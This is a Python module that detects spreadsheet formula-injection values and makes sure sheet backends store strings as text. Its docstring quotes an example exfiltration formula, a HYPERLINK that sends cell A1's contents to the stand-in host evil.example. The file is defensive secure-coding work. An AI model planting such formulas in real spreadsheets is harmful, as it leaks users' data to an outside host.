"""Which cell values a spreadsheet would run as formulas: the one rule every sheet backend
applies, so a value from a feed, an order or an event is always written as data.

A spreadsheet application treats text beginning with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("http://evil.example/?x="&A1,"click")`` leaks the sheet's cells when clicked),
and a leading tab or carriage return can hide such a prefix from a reader. Relay never writes
formulas, so every backend writes every ``str`` as text, and marks the ones this rule finds:

- ``xlsx`` (openpyxl): a string cell (``data_type "s"``, never inferred, so no ``<f>``
  element), and for a formula-like value also the cell style ``quotePrefix``, so Excel and
  LibreOffice keep it as text when a user edits the cell.
- ``google`` (gspread): every write with ``valueInputOption`` :data:`GOOGLE_VALUE_INPUT_OPTION`
  (``RAW``: values are stored as given, never parsed), never ``USER_ENTERED``.

Only text is guarded: numbers stay numbers (a negative quantity ``-3`` is an ``int`` and is
written as the number -3); the text ``"-3"`` is kept as text. The value itself is never
changed (no apostrophe or space is prepended): a reader gets back exactly what was written.
"""

from __future__ import annotations

from typing import Final, Literal

#: The first characters that make a spreadsheet application read text as a formula (``=``,
#: ``+``, ``-``, ``@``), or that can hide one (tab, carriage return).
FORMULA_PREFIXES: Final = ("=", "+", "-", "@", "\t", "\r")

#: How the Google Sheets backend sends values: stored as given, never parsed as formulas.
GOOGLE_VALUE_INPUT_OPTION: Final[Literal["RAW"]] = "RAW"


def is_formula_like(text: str) -> bool:
    """True when ``text`` begins with one of :data:`FORMULA_PREFIXES`: a spreadsheet would
    run it (or could be led to run it) as a formula unless it is stored as text."""
    return text.startswith(FORMULA_PREFIXES)


def needs_text_guard(value: object) -> bool:
    """True for a ``str`` that :func:`is_formula_like`; never for numbers, booleans, dates
    or blanks (they cannot be formulas)."""
    return isinstance(value, str) and is_formula_like(value)
